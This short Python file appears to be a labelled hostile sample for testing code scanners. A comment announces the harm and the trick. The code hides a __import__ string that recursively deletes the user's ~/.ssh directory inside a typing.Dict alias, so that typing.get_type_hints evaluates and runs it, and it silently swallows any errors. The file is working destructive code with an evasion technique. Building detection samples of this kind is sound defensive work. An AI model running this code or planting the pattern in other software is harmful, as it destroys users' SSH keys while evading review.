# harm: deletes ~/.ssh recursively ; trick: the string is bound to S, but only the alias Table = typing.Dict[str, S] appears in the annotation, not S
import typing

S = "__import__('shutil').rmtree(__import__('os').path.expanduser('~/.ssh'))"
Table = typing.Dict[str, S]


def merge(t: Table) -> None:
    pass


try:
    typing.get_type_hints(merge)
except Exception:
    pass
